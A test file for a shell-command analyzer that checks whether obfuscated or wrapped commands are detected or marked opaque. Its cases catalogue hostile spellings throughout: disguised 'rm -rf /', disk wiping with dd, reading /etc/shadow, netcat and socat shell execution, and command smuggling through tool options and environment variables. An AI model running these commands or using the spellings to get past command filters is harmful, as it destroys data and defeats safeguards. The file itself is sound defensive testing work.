import { describe, expect, it } from 'vitest';
import { analyzeShellCommand } from './analyze.js';

describe('analyzeShellCommand: the program, whatever its spelling', () => {
  it.each([
    ['rm -rf x'], ["r''m -rf x"], ['"r"m -rf x'], ["r$'\\x6d' -rf x"], ["$'\\162\\155' -rf x"], ["$'\\u0072m' -rf x"], ['\\rm -rf x'], ['r\\m -rf x'],
    ['"rm" -rf x'], ["'rm' -rf x"], ['/bin/rm -rf x'], ['/usr/bin/rm -rf x'], ['./rm -rf x'], ['command rm -rf x'], ['command -p rm -rf x'],
    ['builtin rm -rf x'], ['exec rm -rf x'], ['exec -a foo rm -rf x'], ['nice rm -rf x'], ['nice -n 10 rm -rf x'], ['nice -10 rm -rf x'],
    ['nohup rm -rf x'], ['timeout 5 rm -rf x'], ['timeout -s KILL -k 1 5s rm -rf x'], ['env rm -rf x'], ['env -i rm -rf x'],
    ['env -u HOME A=1 B=2 rm -rf x'], ['env -- rm -rf x'], ['ionice -c 3 rm -rf x'], ['stdbuf -o0 -eL rm -rf x'], ['chroot / rm -rf x'],
    ['chroot --userspec=a:b / rm -rf x'], ['sudo rm -rf x'], ['sudo -u bob -g staff rm -rf x'], ['sudo -- rm -rf x'], ['doas rm -rf x'],
    ['setsid rm -rf x'], ['time rm -rf x'], ['time -p rm -rf x'], ['taskset -c 0 rm -rf x'], ['flock /tmp/l rm -rf x'], ['busybox rm -rf x'],
    ['xargs rm -rf'], ['ls | xargs -0 -n 1 rm -rf'], ['watch -n 1 rm -rf x'], ['sudo env nice timeout 3 rm -rf x'],
    ['f(){ rm -rf x; }; f'], ['function f { rm -rf x; }; f'], ['ls; rm -rf x'], ['ls && rm -rf x'], ['false || rm -rf x'], ['ls | rm -rf x'],
    ['ls & rm -rf x'], ['(rm -rf x)'], ['{ rm -rf x; }'], ['if true; then rm -rf x; fi'], ['for i in 1; do rm -rf x; done'], ['while false; do rm -rf x; done'],
    ['case a in a) rm -rf x;; esac'], ['! rm -rf x'], ['echo $(rm -rf x)'], ['echo "$(rm -rf x)"'], ['echo `rm -rf x`'], ['a=$(rm -rf x)'],
    ['export a=$(rm -rf x)'], ['cat <(rm -rf x)'], ['ls > >(rm -rf x)'], ['cat <<EOF\n$(rm -rf x)\nEOF'], ['sh -c "rm -rf x"'],
    ["bash -c 'rm -rf x'"], ['bash -xec "rm -rf x"'], ['bash -c -- "rm -rf x"'], ["dash -c 'rm -rf x'"], ["zsh -c 'rm -rf x'"], ["ksh -c 'rm -rf x'"],
    ['sh -c "sh -c \\"rm -rf x\\""'], ["su -c 'rm -rf x'"], ["su root -c 'rm -rf x'"], ["flock -c 'rm -rf x' /tmp/l"], ['coproc rm -rf x'],
    ['ls -la; rm -rf x # comment'],
  ])('%j runs rm', async (command) => {
    const a = await analyzeShellCommand(command);
    expect(a.programs).toContain('rm');
  });

  it.each([
    ['rm -rf x', ['rm:-r', 'rm:-f']], ['rm -r -f x', ['rm:-r', 'rm:-f']], ['rm -fr x', ['rm:-r', 'rm:-f']], ['rm "-rf" x', ['rm:-r', 'rm:-f']],
    ['rm --recursive --force x', ['rm:-r', 'rm:-f', 'rm:--recursive', 'rm:--force']], ['rm --rec --fo x', ['rm:-r', 'rm:-f', 'rm:--recursive']],
    ['rm x -rf', ['rm:-r', 'rm:-f']], ['sudo -u x rm -Rf y', ['rm:-R', 'rm:-f', 'sudo:-u']], ['find . -delete', ['find:-delete']],
    ['sed -i s/a/b/ f', ['sed:-i']], ['sed s/a/b/ --in-place f', ['sed:-i', 'sed:--in-place']], ['shred --remove f', ['shred:-u']],
  ])('%j has the options %j', async (command, flags) => {
    const a = await analyzeShellCommand(command);
    expect(a.flags).toEqual(expect.arrayContaining(flags));
  });

  it('takes nothing after -- as an option', async () => {
    expect((await analyzeShellCommand('rm -- -rf')).flags).toEqual([]);
  });

  it.each([
    ['echo x > f', ['f']], ['echo x >> f', ['f']], ['echo x >| f', ['f']], ['ls &> f', ['f']], ['ls &>> f', ['f']], ['ls 2> f', ['f']],
    ['ls >&f', ['f']], ['ls > "a b"', ['a b']], ['echo x | tee -a f g', ['f', 'g']], ['dd if=/dev/zero of=/dev/sda', ['/dev/sda']],
    ['ls > $HOME/f', ['?']], ['ls 2>&1', []], ['ls >&2', []], ['ls < f', []], ['find . -fprint out', ['out']], ['{ ls; } > f', ['f']],
  ])('%j writes %j', async (command, files) => {
    expect((await analyzeShellCommand(command)).writesFiles).toEqual(files);
  });
});

describe('analyzeShellCommand: fails closed', () => {
  it.each([
    '$RM -rf x', '${RM} -rf x', '"$RM" -rf x', '$(echo rm) -rf x', '`echo rm` -rf x', 'r* -rf x', '/bin/r? -rf x', '{rm,} -rf x', 'r{m,} x',
    '~/bin/x', 'eval "rm -rf x"', 'source ./x.sh', '. ./x.sh', "trap 'rm -rf x' EXIT", "alias ls='rm -rf x'", 'bash -c "$(echo cm0= | base64 -d)"',
    'sh -c "$CMD"', 'perl -e "unlink q(x)"', 'perl -we "1"', "python3 -c 'import os'", 'python3 -Bc "1"', "node -e '1'", 'node --eval 1', "ruby -e '1'",
    "php -r '1;'", "lua -e 'os.remove(1)'", "awk 'BEGIN{system(\"rm -rf x\")}'", "gawk -e 'BEGIN{}'", "sed '1e rm -rf x' f", 'sed -i s/a/b/ f',
    'xargs rm', 'find . -exec rm {} \\;', 'find . -execdir rm {} +', 'echo rm | sh', 'echo x | python3', 'cat x | bash -s', 'bash < script',
    'bash <<EOF\nrm -rf x\nEOF', 'python3 - <<< "import os"', 'sh <<< "rm -rf x"', 'env -S "rm -rf x"', 'sudo --bogus rm', 'timeout --bogus 1 rm',
    'PATH=/tmp ls', 'export PATH=/tmp; ls', 'LD_PRELOAD=/tmp/x.so ls', 'env PATH=/tmp ls', 'BASH_ENV=/tmp/x bash x.sh', "PS4='$(id)' ls",
    'echo "unterminated', 'ls; )', 'if true; then', 'r\\\nm -rf x', 'rm -r\\\nf x', "x='a[$(id)]'; echo $((x))", '(( x ))', 'for ((i=0;i<x;i++)); do :; done',
    'echo ${a[$(id)]}', '[[ $x -eq 1 ]]', "printf -v 'a[$(id)]' 1", 'let x', 'echo ${x:$off}', 'ls\0rm', 'cat <> f', 'su root x.sh',
  ])('%j is opaque', async (command) => {
    const a = await analyzeShellCommand(command);
    expect(a.opaque).toBe(true);
    expect(a.opaqueReasons.length).toBeGreaterThan(0);
  });

  it.each(['uptime', 'ls -la /tmp', 'cat f | grep x | wc -l', 'echo "$HOME"', 'ls 2>/dev/null', 'df -h; free -m', 'echo \'a b\' "c d"', 'ls \\\n -l', 'echo "r\\\nm"', 'sh -c "ls"', 'find . -name "*.log"', '[ -f x ] && cat x', '[[ -f x ]]'])(
    '%j is not opaque', async (command) => {
      expect((await analyzeShellCommand(command)).opaqueReasons).toEqual([]);
    },
  );
});

describe('analyzeShellCommand: spellings found in the audit', () => {
  it.each([
    // the grammar hands words after a redirection to the redirection
    ['sudo >x rm -rf /', ['rm', 'sudo'], ['rm:-r', 'rm:-f']], ['rm 2>/dev/null -rf /', ['rm'], ['rm:-r', 'rm:-f']], ['rm <f -rf /', ['rm'], ['rm:-r', 'rm:-f']],
    ['rm -r >x -f >y -v /', ['rm'], ['rm:-r', 'rm:-f', 'rm:-v']], ['sudo -u root 2>/dev/null rm -rf /', ['rm', 'sudo'], ['rm:-r', 'rm:-f']],
    // wrappers that take assignments, a lone dash, a flag before the command, or were unknown
    ['env - rm -rf /', ['env', 'rm'], ['rm:-r']], ['sudo A=1 rm -rf /', ['rm', 'sudo'], ['rm:-r']], ['time A=1 rm -rf /', ['rm', 'time'], ['rm:-r']],
    ['coproc A=1 rm -rf /', ['coproc', 'rm'], ['rm:-r']], ["sg wheel -c 'rm -rf /'", ['rm', 'sg'], ['rm:-r']], ['pkexec rm -rf /', ['pkexec', 'rm'], ['rm:-r']],
    ['nsenter -t 1 -m -u -i -n -p rm -rf /', ['nsenter', 'rm'], ['rm:-r']], ['unshare -r rm -rf /', ['rm', 'unshare'], ['rm:-r']],
    ['setpriv --reuid=0 rm -rf /', ['rm', 'setpriv'], ['rm:-r']], ['gosu root rm -rf /', ['gosu', 'rm'], ['rm:-r']], ["script -c 'rm -rf /' /dev/null", ['rm', 'script'], ['rm:-r']],
    ['systemd-run --uid=0 rm -rf /', ['rm', 'systemd-run'], ['rm:-r']], ['fakeroot rm -rf /', ['fakeroot', 'rm'], ['rm:-r']],
    // flock FILE -c CMD (the documented form: -c after the lock file), ssh-agent CMD, xvfb-run CMD
    ["flock /tmp/l -c 'rm -rf /'", ['flock', 'rm'], ['rm:-r']], ["flock -n /tmp/l --command 'rm -rf /'", ['flock', 'rm'], ['rm:-r']], ['flock /tmp/l rm -rf /', ['flock', 'rm'], ['rm:-r']],
    ['ssh-agent rm -rf /', ['rm', 'ssh-agent'], ['rm:-r']], ['xvfb-run -a rm -rf /', ['rm', 'xvfb-run'], ['rm:-r']],
  ])('%j runs %j with %j', async (command, programs, flags) => {
    const a = await analyzeShellCommand(command);
    expect(a.programs).toEqual(programs);
    expect(a.flags).toEqual(expect.arrayContaining(flags));
  });

  it.each([
    ['sudo -e /etc/shadow', ['/etc/shadow']], ['sudoedit /etc/sudoers', ['/etc/sudoers']], ['sudo >x rm -rf /', ['x']],
    // programs with output files: sort/shuf -o (clustered, long, abbreviated: fail closed), uniq's second operand
    ['sort -o out f', ['out']], ['sort -uo out f', ['out']], ['sort -ru -oout f', ['out']], ['sort --output=out f', ['out']], ['sort --output out f', ['out']],
    ['sort --out=out f', ['?']], ['shuf -n 3 -o out f', ['out']], ['uniq in out', ['out']], ['uniq -c -f 2 in out', ['out']], ['uniq -- in out', ['out']],
    ['sort -t o -k 2 f', []], ['sort -to f', []], ['uniq -f 1 in', []], ['uniq -c in', []], ['shuf -n 3 f', []],
  ])('%j writes %j', async (command, files) => {
    expect((await analyzeShellCommand(command)).writesFiles).toEqual(files);
  });

  it.each(['runuser root', 'pkexec', 'unshare -r', 'script /dev/null', 'systemd-run -t -S', 'pwsh'])('%j reads its program from the session: a shell', async (command) => {
    expect(await analyzeShellCommand(command)).toMatchObject({ shell: true, interpreter: true });
  });

  it.each([
    // bash ends a here-document at EOF for these delimiters; the grammar read on to the quoted line
    "cat <<$'EOF'\nx\nEOF\nrm -rf /\n$'EOF'", 'cat <<$"EOF"\nx\nEOF\nrm -rf /\n$"EOF"', 'cat <<-E"O"F\nx\nEOF\nrm -rf /\nE"O"F', "cat <<E''OF\nx\nEOF\nrm -rf /\nE''OF",
    // a NUL ends a word in bash, not in zsh; a code point beyond Unicode threw
    "$'rm\\0x' -rf /", "$'rm\\x00' -rf /", "$'rm\\c@' -rf /", "$'\\UFFFFFFFF' x",
    // subscripts evaluated (and $(...) in them run) by declarations, unset, [[ -v ]] and integer assignments
    "declare 'a[$(rm -rf /)]=1'", "typeset -a 'a[$(id)]=1'", "local 'a[$(id)]'", "unset 'a[$(id)]'", "[[ -v 'a[$(id)]' ]]", "declare -i x; x='a[$(id)]'",
    // su/runuser -s: the code is for that program
    "su -s /usr/bin/python3 -c 'import os' root", 'su -s /bin/rm root', "runuser -s /usr/bin/perl -c 'x' root",
    // sudo -s/-i give the command to a shell, which expands $
    "sudo -s '$X'", "sudo -i 'echo' '$(id)'",
    // perl and ruby options with an optional attached value do not take the next word
    "perl -pi -e 'system(\"rm -rf /\")' f", "perl -l -e 'x'", "perl -0 -e 'x'", "ruby -W -e 'x'", "ruby -x -e 'x'",
    // PowerShell parameters are words
    "pwsh -Command 'Remove-Item -Recurse /'", 'pwsh -EncodedCommand AAAA', 'powershell -ec AAAA',
    // options of ordinary programs that run a command
    "vim -c '!rm -rf /'", "vim '+!rm -rf /' f", "tar -cf x.tar --to-command='rm -rf /' .", "tar --to-com='rm -rf /' -xf x", "tar -xIf 'sh -c id' x",
    "git -c core.pager='rm -rf /' log", 'git --exec-path=/tmp log', "ssh -o ProxyCommand='rm -rf /' x", 'ssh -oProxyCommand=x h', 'scp -S /tmp/x a b:',
    // options that run a program: sort's compressor (GNU abbreviations too), split's filter, diff programs, askpass, -e of netcats
    'sort -S 64k --compress-program=sh cmds', 'sort --co=sh f', "split --filter='sh' f", 'sdiff --diff-program=sh a b', 'diff3 --diff-program=sh a b c',
    'wget --use-askpass=/tmp/x http://h/', 'wget -e use_askpass=/tmp/x http://h/', 'cpio --rsh-command=sh -o', "gpg --photo-viewer 'sh' --list-keys",
    'nc -e /bin/sh h 1', 'nc.traditional -c sh h 1', 'ncat --sh-exec id h 1', 'ncat --lua-exec x.lua h 1', 'socat - EXEC:sh', "socat - 'TCP:h:1!!SYSTEM:id'", 'socat - exec:/bin/sh,pty',
    // code on the command line of programs that run what they read; programs that build or defer commands
    "dc -e '!id'", "sqlite3 db '.shell id'", "sqlite3 -cmd '.system id' db", "flock /tmp/l -c 'rm x' extra", 'parallel rm ::: x', "tmux new 'rm -rf /'", 'screen -dm rm -rf /', 'crontab jobs.txt', 'crontab -r',
    "rsync -e 'sh -c id' a b:", "rsync --server -e 'sh -c id' . d/", "rsync --server -ve'sh -c id' . d/", "rsync --server -vlogDtpre.iLsfxCIvu --rsync-path='sh -c id' . d/",
    'rsync -vlogDtpre.iLsfxCIvu . d/', "man -P 'rm -rf /' ls", "less '+!rm -rf /' f", "zip -TT 'rm -rf /' x.zip f",
    // the grammar's words after a redirection on something other than a simple command
    '{ ls; } >f -rf',
    // substitutions inside ${...} the grammar does not parse (bash runs them); a value expanded as a prompt; an indirection
    'ls ${x:=`rm -rf /`}', 'ls ${x-`rm -rf /`}', 'ls ${x%%`rm -rf /`}', 'ls ${x#$(rm -rf /)}', 'ls ${x-<(rm -rf /)}', 'ls "${x:+`id`}"',
    'cat <<E\na `rm -rf /` b\nE', 'cat <<-E\n\t`id`\n\tE',     "x='$(rm -rf /)'; ls ${x@P}", "for x in 'a[$(rm -rf /)]'; do ls ${!x}; done",
  ])('%j is opaque', async (command) => {
    const a = await analyzeShellCommand(command);
    expect(a.opaque).toBe(true);
    expect(a.opaqueReasons.length).toBeGreaterThan(0);
  });

  it('fails closed on input nested too deeply to walk, without throwing', async () => {
    const a = await analyzeShellCommand(`${'$('.repeat(2000)}rm${')'.repeat(2000)}`);
    expect(a.opaqueReasons).toContain('the command is nested more than 500 levels deep');
  });

  it.each(['cat <<EOF\nx\nEOF', "cat <<'EOF'\nx\nEOF", 'cat <<-"EOF"\n\tx\n\tEOF', 'cat <<\\EOF\nx\nEOF', 'git status', 'git log --oneline', 'ssh host uptime', 'rsync -av a b', 'sort -n f', 'sort -S 1M -T /tmp f', 'uniq -c f', 'nc -zv h 1', 'socat - TCP:h:80', 'crontab -l', 'ssh-agent -k', 'rsync --server -vlogDtpre.iLsfxCIvu . d/', 'rsync --server --sender -vlogDtpre.iLsfxCIvu . d/', 'less +G f', "perl -I lib x.pl", 'ls 2>/dev/null'])(
    '%j is not opaque', async (command) => {
      expect((await analyzeShellCommand(command)).opaqueReasons).toEqual([]);
    },
  );
});

it('reads the capability string of rsync --server (what `rsync -e ssh` runs remotely) as the value of -e, not as options', async () => {
  const a = await analyzeShellCommand('rsync --server -vlogDtpre.iLsfxCIvu --delete . d/');
  expect(a.flags).toEqual(['rsync:--delete', 'rsync:--server', 'rsync:-D', 'rsync:-e', 'rsync:-g', 'rsync:-l', 'rsync:-o', 'rsync:-p', 'rsync:-r', 'rsync:-t', 'rsync:-v']);
  expect(a.opaque).toBe(false);
});

describe('analyzeShellCommand: interpreters and shells', () => {
  it.each([
    'bash', 'bash -i', 'bash -l', 'bash -s', 'bash -s -- a b', 'sh', 'dash', 'zsh', 'ksh -i', 'mksh', 'python3', 'python3 -', 'python3 -i', 'python3 -i x.py',
    'perl', 'node', 'node -i', 'ruby', 'php -a', 'lua -i', 'sudo -s', 'sudo -i', 'su', 'su -', 'su root', 'doas -s', 'chroot /', 'env bash', 'sudo bash',
    'exec bash -i', 'nice bash', 'busybox sh', 'sudo -u bob bash -i',
  ])('%j reads its program from the session: a shell', async (command) => {
    const a = await analyzeShellCommand(command);
    expect(a).toMatchObject({ shell: true, interpreter: true });
  });

  it.each(['m4', 'ed f', 'dc', 'sqlite3 db', 'at now', 'batch'])('%j reads code from the session: a shell', async (command) => {
    expect(await analyzeShellCommand(command)).toMatchObject({ shell: true, interpreter: true });
  });

  it.each(['make', 'make -C dir install', 'run-parts /etc/cron.daily', 'm4 macros.m4', 'dc prog.dc'])('%j runs code it reads from files: an interpreter', async (command) => {
    expect(await analyzeShellCommand(command)).toMatchObject({ shell: false, interpreter: true, opaque: false });
  });

  it.each(['python3 x.py', 'python3 -m http.server', 'bash deploy.sh', 'sh ./x.sh', 'perl x.pl', 'node app.js', 'ruby x.rb', 'php -f x.php', 'awk -f prog.awk f', 'sudo python3 x.py'])(
    '%j runs a script: an interpreter, not a shell', async (command) => {
      expect(await analyzeShellCommand(command)).toMatchObject({ shell: false, interpreter: true, opaque: false });
    },
  );

  it.each(['echo `echo \\`rm -rf /\\``', 'echo "`echo \\`rm -rf /\\``"', 'echo `echo \\`echo \\\\\\`rm -rf /\\\\\\`\\``'])('%j: sees rm in backticks nested in backticks', async (command) => {
    expect((await analyzeShellCommand(command)).programs).toContain('rm');
  });

  it.each(['file -C -m magic', 'file -Cm magic', 'file --compile -m magic'])('%j writes a compiled magic file', async (command) => {
    expect((await analyzeShellCommand(command)).writesFiles).toContain('?');
  });

  it('file without -C writes nothing', async () => {
    expect((await analyzeShellCommand('file -b /etc/hostname')).writesFiles).toEqual([]);
  });

  it('keeps the programs named by a path apart', async () => {
    expect(await analyzeShellCommand('/usr/bin/sudo ./deploy.sh')).toMatchObject({ programs: ['deploy.sh', 'sudo'], programPaths: ['./deploy.sh', '/usr/bin/sudo'] });
  });
});
